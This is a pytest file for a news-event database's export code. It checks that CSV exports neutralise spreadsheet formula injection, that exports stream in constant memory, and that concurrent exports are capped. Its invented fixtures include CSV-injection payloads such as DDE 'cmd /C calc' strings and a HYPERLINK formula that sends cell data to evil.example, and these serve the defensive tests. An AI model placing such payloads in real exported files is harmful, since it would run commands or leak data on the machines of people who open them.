"""Exports that are safe to open and cheap to serve: CSV injection neutralised (OWASP) on
the CLI and over HTTP, every export streamed in constant memory, concurrent exports
limited. Invented data."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tracemalloc
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from wartrace.cli import cli
from wartrace.link import link_all
from wartrace.models import ArticleInput, ExtractedEvent, Geo, TextAnalysis
from wartrace.store import db, export
from wartrace.web import app as web_app

# invented: every text field a spreadsheet would run
HOSTILE = {
    "id": "=cmd|' /C calc'!A0",
    "outlet": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "title": "+SUM(1+1)*cmd|' /C calc'!A0",
    "actor": "@SUM(1+1)",
    "location": "-2+3+cmd|' /C calc'!A0",
    "admin1": "\t=1+1",
    "admin2": "\r=1+1",
    "notes": "\uff1d1+1",  # fullwidth equals sign
}
TEXT = "Invented: gunmen killed two herders near an invented well on Tuesday, police said."
NUMERIC_COLUMNS = {"latitude", "longitude", "language_confidence"}


@pytest.fixture()
def hostile_store(tmp_path: Path) -> Path:
    path = tmp_path / "h.db"
    conn = db.connect(path)
    db.store_articles(
        conn,
        [
            ArticleInput(
                HOSTILE["id"],
                TEXT,
                "h.txt",
                "txt",
                outlet=HOSTILE["outlet"],
                title=HOSTILE["title"],
                published="2021-03-04",
            ),
            ArticleInput("copy", TEXT + " Copy.", "c.txt", "txt", outlet="-Wire"),
        ],
    )
    event = ExtractedEvent(
        event_date="2021-03-02",
        event_type="Violence against civilians",
        sub_event_type="Attack",
        actor1=HOSTILE["actor"],
        actor2="-Civilians",
        geo=Geo("NG", HOSTILE["admin1"], HOSTILE["admin2"], HOSTILE["location"], -3.5, -60.1, 2),
    )
    for aid in (HOSTILE["id"], "copy"):
        db.save_processed(conn, aid, TextAnalysis(clean_text=TEXT, language="en"), [event])
    link_all(conn)
    conn.execute("UPDATE events SET notes = ?", (HOSTILE["notes"],))
    conn.execute("UPDATE articles SET derived_from = ? WHERE article_id = 'copy'", (HOSTILE["id"],))
    conn.close()
    return path


def _assert_inert(text: str) -> int:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if cell and cell[0] in export.FORMULA_STARTS:
                assert column in NUMERIC_COLUMNS, (column, cell)
                float(cell)  # a number, not a formula
    return len(rows)


def test_neutralise_cell_follows_owasp() -> None:
    for bad in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"):
        assert export.neutralise_cell(bad) == "'" + bad
    for fine in ("Kano", "", "1-2", "a=b", "'quoted"):
        assert export.neutralise_cell(fine) == fine
    assert export.csv_cell(-3.5) == -3.5  # numbers stay numbers
    assert export.csv_cell(["=x"]) == '["=x"]'  # JSON lists start with a bracket


def test_cli_csv_exports_neutralise_every_text_column(hostile_store: Path) -> None:
    runner = CliRunner()
    events = runner.invoke(cli, ["export", "--db", str(hostile_store), "--format", "csv"])
    assert events.exit_code == 0, events.output
    _assert_inert(events.output)
    row = next(csv.DictReader(io.StringIO(events.output)))
    assert row["source"].startswith("'")  # outlets, joined
    assert row["article_ids"].startswith("'=cmd")
    assert row["actor1"] == "'" + HOSTILE["actor"]
    assert float(row["longitude"]) == -60.1
    articles = runner.invoke(
        cli, ["export", "--db", str(hostile_store), "--format", "csv", "--articles"]
    )
    assert articles.exit_code == 0
    _assert_inert(articles.output)
    by_id = {r["article_id"]: r for r in csv.DictReader(io.StringIO(articles.output))}
    assert by_id["copy"]["derived_from"] == "'" + HOSTILE["id"]
    assert by_id["'" + HOSTILE["id"]]["title"] == "'" + HOSTILE["title"]


def test_jsonl_keeps_the_values_as_they_are(hostile_store: Path) -> None:
    out = CliRunner().invoke(cli, ["export", "--db", str(hostile_store), "--articles"]).output
    ids = {json.loads(line)["article_id"] for line in out.splitlines()}
    assert HOSTILE["id"] in ids  # JSON is data, not a spreadsheet: nothing to neutralise


def test_http_csv_export_neutralises_too(hostile_store: Path) -> None:
    client = TestClient(web_app.create_app(str(hostile_store)))
    for url in ("/api/export.csv", "/export.csv"):
        response = client.get(url)
        assert response.status_code == 200
        assert _assert_inert(response.text) == 1


def _many_events(path: Path, n: int) -> None:
    conn = db.connect(path)
    db.store_articles(conn, [ArticleInput("a", TEXT, "a.txt", "txt", outlet="Invented Wire")])
    with db.transaction(conn):
        conn.executemany(
            "INSERT INTO events (event_id, event_date, event_type, actor1, country, location,"
            " latitude, longitude, notes, updated_at) VALUES (?, ?, 'Battles', ?, 'NG', ?,"
            " 9.1, 7.4, ?, 'now')",
            [
                (
                    f"ev-{i:07d}",
                    f"2021-{1 + i % 12:02d}-{1 + i % 28:02d}",
                    f"Invented Group {i}",
                    f"Invented Place {i}",
                    "invented note " * 20,
                )
                for i in range(n)
            ],
        )
        conn.executemany(
            "INSERT INTO reports (article_id, seq, event_id) VALUES ('a', ?, ?)",
            [(i, f"ev-{i:07d}") for i in range(n)],
        )
    conn.close()


def _peak(fn: object) -> int:
    tracemalloc.start()
    try:
        fn()  # type: ignore[operator]
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


class _Sink(io.StringIO):
    """Counts what is written and keeps none of it."""

    def write(self, s: str) -> int:
        return len(s)


class _BinarySink(io.BytesIO):
    def __init__(self) -> None:
        super().__init__()
        self.size = 0

    def write(self, b: object) -> int:
        self.size += len(b)  # type: ignore[arg-type]
        return len(b)  # type: ignore[arg-type]

    def tell(self) -> int:
        return self.size


def test_streamed_parquet_is_whole(tmp_path: Path) -> None:
    _many_events(tmp_path / "p.db", 1200)
    conn = sqlite3.connect(tmp_path / "p.db")
    conn.row_factory = sqlite3.Row
    out = io.BytesIO()
    assert export.export(conn, "parquet", None, out) == 1200
    table = pq.read_table(io.BytesIO(out.getvalue()))
    assert table.num_rows == 1200 and table.column("event_id")[0].as_py() == "ev-0000000"


SIZES = (800, 3200)  # four times the events; pages of 100 records (PAGE patched below)


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> dict[int, Path]:
    folder = tmp_path_factory.mktemp("many")
    for n in SIZES:
        _many_events(folder / f"{n}.db", n)
    return {n: folder / f"{n}.db" for n in SIZES}


@pytest.fixture()
def small_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 100)


@pytest.mark.usefixtures("small_pages")
@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_cli_export_memory_does_not_grow_with_the_store(stores: dict[int, Path], fmt: str) -> None:
    peaks = []
    for n, path in stores.items():
        conn = sqlite3.connect(path)
        conn.row_factory = sqlite3.Row

        def run(conn: sqlite3.Connection = conn, n: int = n) -> None:
            if fmt == "parquet":
                assert export.export(conn, fmt, None, _BinarySink()) == n
            else:
                assert export.export(conn, fmt, _Sink(), None) == n

        peaks.append(_peak(run))
        conn.close()
    # Four times the events, about the same peak (a list of all records would be 4x).
    assert peaks[1] < 1.6 * peaks[0], peaks


@pytest.mark.usefixtures("small_pages")
def test_http_export_streams_in_pages_with_constant_memory(stores: dict[int, Path]) -> None:
    peaks = []
    for n, path in stores.items():
        store = web_app.Store(str(path), read_only=True)
        for fmt in ("csv", "json", "jsonl"):
            assert web_app._export_slots.acquire(blocking=False)
            chunks = web_app._export_chunks(store._open(), fmt, ("1", []))
            sizes: list[int] = []
            peaks.append(_peak(lambda chunks=chunks, sizes=sizes: sizes.extend(map(len, chunks))))
            assert len(sizes) >= n // export.PAGE  # many chunks, not one body
    small, large = peaks[:3], peaks[3:]
    assert all(b < 1.6 * a for a, b in zip(small, large, strict=True)), peaks
    client = TestClient(web_app.create_app(str(stores[SIZES[0]])))
    body = client.get("/api/export.json").json()
    assert len(body) == SIZES[0] and body[0]["event_id"] == "ev-0000000"


def test_concurrent_http_exports_are_limited(hostile_store: Path) -> None:
    client = TestClient(web_app.create_app(str(hostile_store)))
    held = 0
    try:
        while web_app._export_slots.acquire(blocking=False):
            held += 1
        assert held == web_app.MAX_EXPORTS
        busy = client.get("/api/export.csv")
        assert busy.status_code == 503
        assert busy.headers["Retry-After"]
    finally:
        for _ in range(held):
            web_app._export_slots.release()
    assert client.get("/api/export.csv").status_code == 200
    # A finished (or abandoned) stream gives its slot back.
    for _ in range(web_app.MAX_EXPORTS + 2):
        assert client.get("/api/export.jsonl").status_code == 200
